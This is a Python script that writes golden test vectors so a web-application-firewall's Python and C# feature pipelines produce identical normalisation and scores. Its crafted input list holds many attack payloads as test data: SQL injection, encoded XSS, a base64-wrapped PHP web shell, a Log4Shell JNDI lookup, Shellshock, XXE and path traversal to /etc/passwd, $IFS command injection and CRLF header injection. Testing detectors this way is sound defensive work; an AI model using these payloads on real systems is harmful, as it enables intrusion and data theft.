"""Writes the golden vectors that hold Python and C# equal: `python3 -m wafml.golden ../Features/golden`."""

import base64
import json
import random
import sys
import zlib
from pathlib import Path

import numpy as np

from .features import BUCKETS, ngram_indices, tokens, windows
from .gate import NORMS, Gate
from .normalize import ENTITIES, FLAGS, is_plain, normalize, unread
from .scan import WHOLE

SEED = 20261122

CRAFTED = [
    b"", b" ", b"a", b"hello world", b"id-42_x.y", b"..", b"a..b", b"x" * 64, b"x" * 65,
    b"1' OR '1'='1' -- ", b"1%27%20or%201=1", b"1%2527%2520or%25201%3D1", b"%u0027%u003cscript%u003e", b"%uD800%uFFFF%u00e9",
    b"100% sure", b"%", b"%4", b"%zz", b"%u00", b"%u12g4", b"%25%32%37", b"a%00b%c0%afc%e0%80%afd%c1%bf",
    b"\xc0\xae\xc0\xae/", b"\xe0\x80\xae\xe0\x81\xbf\xe0\x82\x80\xc0", b"\xc0", b"\xe0\x80", b"\xef\xbc", b"\xe2\x80", b"\xca",
    "\uff1cscript\uff1e\uff3f\uff40\uff5e\uff5f".encode(), "it\u2019s \u201cquoted\u201d \u02bcx".encode(),
    "\u56fe\u6ce2\u3000\u5217\u592b".encode(), "\u00a0nbsp\u00a0 \u00a0".encode(),
    b"&lt;script&gt;alert&lpar;1&rpar;&lt;/script&gt;", b"&#60;&#x3C;&#0000060;&#x00003c&#60a&#xg;&#;&#", b"&#0;&#x0;a&#1114112;&#x110000;&#55296;",
    b"&lt &gt;&LT;&Amp;amp;&nosuch;&toolongname;&a;&;&NewLine;&Tab;x", b"&amp;amp;amp;amp;amp;amp;lt;", b"a=1&b=2&copy=3",
    b"\\x3cscript\\x3e \\u003c \\u{3c} \\u{1F600} \\u{110000} \\u{} \\u{1234567} \\u{3c \\xg0 \\u12 \\", b"C:\\Users\\x41\\new",
    b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg", b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg===",
    b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0P", base64.b64encode(b"MSwgMiBhbmQgMw"), base64.b64encode(b"onlylettersanddigits1234"),
    base64.b64encode(b"%3Cscript%3Ealert(1)%3C/script%3E"), base64.urlsafe_b64encode(b"??>>~~ union select ~~<<??"), base64.b64encode(bytes(range(30))),
    base64.b64encode(base64.b64encode(b"<?php system($_GET['c']); ?>")),
    b"un/**/ion/*!50000select*/1/*!*/ /*!1234567*/ /* a b */ /***/ /*", b"/*" + b"c" * 64 + b"*/x", b"/*" + b"c" * 65 + b"*/x", b"/*/", b"/*!", b"src/**/*.ts */*",
    b"cat${IFS}/etc/passwd;cat$IFS$9x;a$ifs;${ifs%%?}b;${IFS:0:1}c;$IFS$@d;${if};$if;${IFS12345678901234567}e;$IFS$", b"$", b"${IFS",
    b"\x01\x02a\tb\nc\x0bd\x0ce\x7ff\x1f", b"\x00\x00", b"  Many   Spaces\r\n\r\n ", b"UPPER lower MiXeD",
    b"../../../../etc/passwd", b"${jndi:ldap://x.example/a}", b"() { :;}; echo vulnerable", b"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
    b"a\r\nSet-Cookie: x=1", b"\nLocation:http://a.example", b"a \r\n \tX-A1-b: c", b"a\n b: c", b"a\nbb: c", b"a\n1b: c", b"a\n-bb: c",
    b"a\n" + b"h" * 31 + b": c", b"a\n" + b"h" * 32 + b": c", b"a\r\nbb", b"a\r\nbb :c", b"a bb: c", b"a\n\nbb: c\ncc: d\n", b"%0d%0aHost: x",
    b"rO0ABXNyABFqYXZh", b"/help/rO0ABM5+YC5Y5", b"aced00057372", b"\xac\xed\x00\x05sr", b"AAEAAAD/////AQAA", b"AAEAAAD_____AQAA", b"/wEyxwEA", b"a=/wExx", b"wEyx",
    b"gASVxx", b"gAJ9xx", b"gAN0xx", b"data:KztAAUxx", b"xrO0AB", b"RO0AB", b"x%3DrO0ABX", b"{rO0AB", b"un+ion  _a1b22c333 d\xc3\xa9j\xc3\xa0  +9+",
    b"x" * 240, b"x" * 241, b"ab" * 200, b"word " * 100, b"A" * 8192, b"%41" * 3000, bytes(range(256)),
]

# Written as a piece and how often it is repeated: values of many windows, and some of which not all is read.
LONG = ((b"plain words, ", 40), (b"it's <b>%41</b> or 1=1 -- ", 60), (b"a\x41&lt;\r\nb: c", 700), (b"0123456789abcde\xc3\xa9 ", 7282),
        (b"x" * 64, 2048), (b"x" * 64 + b"'", 2017), (b"%2527 or ", 40_000), (b"select %s from t; ", 9_000))


def generate() -> "list[bytes]":
    """The crafted values and random mixtures of the pieces that steps react to."""
    rng = random.Random(SEED)
    pieces = [b"%", b"%2", b"%27", b"%2527", b"%u0027", b"%U003C", b"&", b"&#", b"&#x", b"&#39;", b"&lt;", b"&amp;", b";", b"\\", b"\\x", b"\\x27",
              b"\\u", b"\\u0027", b"\\u{27}", b"{", b"}", b"\xc0", b"\xc0\xaf", b"\xe0\x80", b"\xaf", b"\xef\xbc\x9c", b"\xe2\x80\x99", b"\xca\xbc",
              b"\x00", b"\x01", b"\xc2\xa0", b"\xe3\x80\x80", b" ", b"\t", b"/*", b"*/", b"/*!", b"*", b"/", b"0", b"41", b"e", b"Fa", b"$", b"$IFS",
              b"${IFS", b"$9", b"x", b"u", b"SELECT", b"union", b"'", b"=", b"..", b"3c", b"&" + rng.choice(sorted(ENTITIES)) + b";"]
    values = list(CRAFTED)
    for _ in range(1200):
        values.append(b"".join(rng.choice(pieces) for _ in range(rng.randint(1, 14))))
    for name in sorted(ENTITIES):
        values.append(b"a&" + name + b";b")
    for _ in range(100):
        values.append(bytes(rng.randrange(256) for _ in range(rng.randint(1, 600))))
    words = [b"word", b"and", b"42", b"'", b"or", b"=", b"1", b"<b>", b"(", b")", b";", b"--", b"..", b"/", b"etc", b"name", b" "]
    for length in (20, 22, 23, 38, 39, 62, 63, 100, 118, 119, 120, 121, 166, 167, 238, 239, 240, 241, 479, 480, 900, 2_000):
        text = b" ".join(rng.choice(words) for _ in range(length))
        values.append(text[:length - 1] + b"x")  # lengths around those of windows, and the last byte is no space
    return values


def synthetic_gate() -> Gate:
    """Weights from a formula that both languages write down, so that no weights file is needed."""
    index = np.arange(BUCKETS, dtype=np.uint64)
    weights = (((index * 2654435761) & 0xFFFFFFFF) >> 24).astype(np.uint8).view(np.int8)
    flags = (np.arange(FLAGS, dtype=np.float32) - np.float32(5)) / np.float32(8)
    offsets = (np.arange(WHOLE, dtype=np.float32) - np.float32(2)) / np.float32(4)
    return Gate(weights, flags, np.float32(-0.75), np.float32(0.03125), (0.03125 / NORMS).astype(np.float32), offsets, np.float32(0.0625))


def record(value: bytes, gate: Gate) -> dict:
    normalized, flags = normalize(value)
    parts = windows(normalized)
    places = [list(place) for place in gate.places(normalized, flags)]
    return {
        "value": base64.b64encode(value).decode(),
        "normalized": base64.b64encode(normalized).decode(),
        "flags": flags,
        "plain": is_plain(normalized, flags),
        "windows": len(parts),
        "ngrams": zlib.crc32(ngram_indices(parts[0]).astype("<u4").tobytes()),
        "tokens": zlib.crc32(np.array(tokens(parts[-1], flags), dtype="<u4").tobytes()),
        "tokenCount": len(tokens(parts[-1], flags)),
        "places": places,
    }


def long_record(piece: bytes, times: int, gate: Gate) -> dict:
    value = piece * times
    normalized, flags = normalize(value)
    return {"piece": base64.b64encode(piece).decode(), "times": times, "length": len(normalized), "normalized": zlib.crc32(normalized), "flags": flags,
            "unread": unread(value), "places": [list(place) for place in gate.places(normalized, flags)]}


def main() -> None:
    out = Path(sys.argv[1])
    out.mkdir(parents=True, exist_ok=True)
    gate = synthetic_gate()
    with open(out / "values.jsonl", "w", encoding="ascii") as file:
        for value in generate():
            file.write(json.dumps(record(value, gate), separators=(",", ":")) + "\n")
    with open(out / "long.jsonl", "w", encoding="ascii") as file:
        for piece, times in LONG:
            file.write(json.dumps(long_record(piece, times, gate), separators=(",", ":")) + "\n")


if __name__ == "__main__":
    main()
